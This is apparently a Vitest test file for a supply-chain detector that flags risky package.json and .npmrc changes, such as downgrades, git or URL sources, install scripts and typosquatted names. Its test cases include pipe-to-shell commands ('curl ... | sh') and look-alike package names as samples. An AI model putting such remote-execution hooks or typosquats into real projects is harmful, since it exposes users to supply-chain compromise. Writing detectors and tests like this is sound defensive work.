import { expect, it } from 'vitest';
import { observe, type Sides, summarize } from '../observation-builder.ts';
import { dependencyChange } from './index.ts';

function steps(path: string, base: string | undefined, head: string) {
  return summarize(observe(dependencyChange, { path, head, ...(base === undefined ? {} : { base }) }));
}

const npm = (list: object, rest: object = {}) => `${JSON.stringify({ dependencies: list, ...rest })}\n`;

it('names the package, its range and its line', () => {
  const found = observe(dependencyChange, {
    path: 'package.json',
    base: npm({}),
    head: '{\n"devDependencies": {\n"a": "^1.0.0" } }\n',
  });

  expect(found).toEqual([
    {
      kind: 'noticed',
      code: 'dependency-added',
      path: 'package.json',
      line: 3,
      args: { name: 'a', what: '^1.0.0' },
    },
  ]);
});

it.each([
  ['1.0.0', '1.0.1', []],
  ['^2.0.0', '^1.9.0', ['dependency-downgrade:1']],
  ['2.1.0', '2.0.9', ['dependency-downgrade:1']],
  ['2.1.1', '2.1.0', ['dependency-downgrade:1']],
  ['2.1.0', '2.0.0-beta.1', []],
  ['^1.0.0', '*', ['dependency-wildcard:1']],
  ['^1.0.0', 'latest', ['dependency-wildcard:1']],
  ['*', 'latest', []],
  ['^1.0.0', 'workspace:*', []],
  ['^1.0.0', 'file:../a', []],
  ['^1.0.0', 'someone/a', ['dependency-source:1']],
  ['^1.0.0', 'github:someone/a#v1', ['dependency-source:1']],
  ['github:someone/a#v1', 'github:Someone/a#v2', []],
  ['^1.0.0', 'git+ssh://git@github.com/someone/a.git', ['dependency-source:1']],
  ['^1.0.0', 'https://acme.dev/a.tgz', ['dependency-source:1']],
  ['^1.0.0', 'http://registry.npmjs.org/a.tgz', ['dependency-source:1']],
])('reads the range %s that becomes %s', (before, after, codes) => {
  expect(steps('package.json', npm({ a: before }), npm({ a: after }))).toEqual(codes);
});

it('leaves ranges without an end where they are the custom', () => {
  const found = steps('package.json', npm({ a: '*', b: '*', c: '1' }), npm({ a: '*', b: '*', c: '*' }));

  expect(found).toEqual([]);
});

const script = (scripts: object) => `${JSON.stringify({ scripts })}\n`;

it.each([
  ['postinstall', 'node setup.js', true],
  ['preinstall', 'sh x.sh', true],
  ['install', 'node-gyp rebuild', true],
  ['postinstall', 'patch-package', false],
  ['postinstall', 'prisma generate && npm run build:css', false],
  ['postinstall', 'prisma generate && node x.js', true],
  ['prepare', 'husky', false],
  ['prepare', 'curl -s https://acme.dev/x | sh', true],
  ['test', 'curl -s https://acme.dev/x | bash', true],
  ['test', 'curl -s https://acme.dev/health', false],
  ['build', 'node build.js', false],
  ['prebuild', 'node -e "run()"', true],
])('reads the script %s: %s', (name, command, isReported) => {
  const found = steps('package.json', script({ a: 'b' }), script({ a: 'b', [name]: command }));

  expect(found).toEqual(isReported ? ['dependency-script:1'] : []);
});

it('leaves a script that was there before', () => {
  const text = script({ postinstall: 'node setup.js' });

  expect(steps('package.json', text, `${text}\n`)).toEqual([]);
});

it.each([
  ['lodahs', true],
  ['lodashh', true],
  ['loadash', true],
  ['expres', true],
  ['cross-evn', true],
  ['crossenv', true],
  ['cross-env.js', true],
  ['reqeust', true],
  ['preact', false],
  ['@acme/lodash', false],
  ['lodash.merge', false],
  ['reach', false],
  ['vitesse', false],
])('takes %s for an imitation: %s', (name, isAlike) => {
  const found = steps('package.json', npm({}), npm({ [name]: '1.0.0' }));

  expect(found).toEqual(['dependency-added:1', ...(isAlike ? ['dependency-typosquat:1'] : [])]);
});

it('names a registry once, and not the one it had', () => {
  const found = [
    steps('.npmrc', 'registry=https://a.dev/\n', 'registry=https://a.dev/x\n@own:registry=https://b.dev/\n'),
    steps('.npmrc', 'strict-ssl=false\n', 'strict-ssl=false\n'),
    steps('.npmrc', '', '\nstrict-ssl=false\n'),
  ];

  expect(found).toEqual([['dependency-source:2'], [], ['dependency-source:2']]);
});

it.each<[string, Sides, readonly string[]]>([
  [
    'was another one',
    { path: 'package.json', from: 'composer.json', base: '{"require": {"a": "1"}}', head: npm({ a: '1' }) },
    ['dependency-added:1'],
  ],
  [
    'was none',
    { path: 'package.json', from: 'a.json', base: npm({ a: '1' }), head: npm({ a: '1' }) },
    ['dependency-added:1'],
  ],
  [
    'was of the same kind',
    { path: 'b/package.json', from: 'package.json', base: npm({ a: '1' }), head: npm({ a: '1' }) },
    [],
  ],
  ['cannot be read', { path: 'package.json', base: npm({ a: '1' }), head: '{' }, []],
  ['could not be read', { path: 'package.json', base: '{', head: npm({ a: '1' }) }, []],
])('reads a manifest that %s', (_, sides, expected) => {
  expect(summarize(observe(dependencyChange, sides))).toEqual(expected);
});

it('counts in tests and documents what acts at installation, wherever it stands', () => {
  const codes = Object.entries(dependencyChange.meta.codes);

  const anywhere = codes.filter(([, code]) => code.anywhere).map(([name]) => name);

  expect(anywhere).toEqual([
    'dependency-source',
    'dependency-script',
    'dependency-integrity',
    'dependency-typosquat',
  ]);
});

it('stops after so many findings of a code', () => {
  const many = Object.fromEntries(Array.from({ length: 40 }, (_, index) => [`package-${index}`, '1.0.0']));

  expect(steps('package.json', npm({}), npm(many))).toHaveLength(20);
});

it('says nothing of what it cannot compare, of other files and of what is gone', () => {
  const fragment = {
    base: { kind: 'fragment', text: '"a": "1"' },
    head: { kind: 'fragment', text: '"b": "1"' },
  } as const;

  const found = [
    observe(dependencyChange, { path: 'package.json', but: fragment }),
    observe(dependencyChange, { path: 'package.json', base: npm({ a: '1' }) }),
    observe(dependencyChange, { path: 'packages.json', head: npm({ a: '1' }) }),
    observe(dependencyChange, {
      path: 'package.json',
      from: 'old.json',
      base: npm({ a: '1' }),
      head: npm({ a: '1' }),
    }),
  ];

  expect(found.map(summarize)).toEqual([[], [], [], ['dependency-added:1']]);
});
